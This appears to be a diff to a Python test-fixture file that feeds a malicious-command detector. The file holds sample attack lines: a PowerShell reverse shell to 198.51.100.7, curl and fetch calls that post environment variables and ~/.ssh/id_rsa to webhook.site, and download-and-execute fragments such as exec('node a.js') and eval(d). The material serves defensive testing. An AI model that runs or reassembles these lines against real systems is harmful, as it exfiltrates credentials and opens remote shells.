@@ -387,3 +387,25 @@ MALICIOUS_OTHERS = {
         "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7', 443); $s = $c.GetStream(); iex $d\n",
     ),
 }
+
+_TEXTS = [
+    *(text for _, text in MALICIOUS_COMMANDS.values()),
+    *(text for _, text in MALICIOUS_JAVASCRIPT.values()),
+    *(text for _, _, text in MALICIOUS_OTHERS.values()),
+    *HONEST_COMMANDS.values(),
+]
+LINES = sorted({line for text in _TEXTS for line in text.split("\n")})
+"""Lines of all samples but Python's, to be shuffled."""
+SHELL_FLOWS = [
+    "E=$(env)", "x=env", "$x = gci env:", 'curl -d "$E" https://webhook.site/a', "irm -Method post -Body $x",
+    "X=http://198.51.100.7/a.sh", "curl $X -o run.sh", "$ curl $X -o ./b", "wget http://198.51.100.7/tool", "sh run.sh",
+    "./b", "chmod +x tool", "echo sh run.sh", "cat ~/.ssh/id_rsa > k", "curl -F @k a.b", "\\", "#", "\u0660",
+    "a" * 4100,
+]  # fmt: skip
+FLOWS = [
+    "const h = os.hostname()", "const u = 'https://webhook.site/x'", "fetch(u + h)", "function f(a, b) {", "f(h, d)",
+    "return h", "}", "const d = fs.readFileSync('.ssh/id_rsa')", "fetch(u, { body: b })", "fs.writeFileSync('q.js', d)",
+    "http.get(u, (res) => {", "w = fs.createWriteStream('a.js')", "res.pipe(w)", "exec('node a.js')", "child_process",
+    "eval(d)", "JSON.stringify(process.env)", "(", ")", "\u017f", "é\u2028",
+]  # fmt: skip
+"""Lines that only say something together, and what comes between them."""
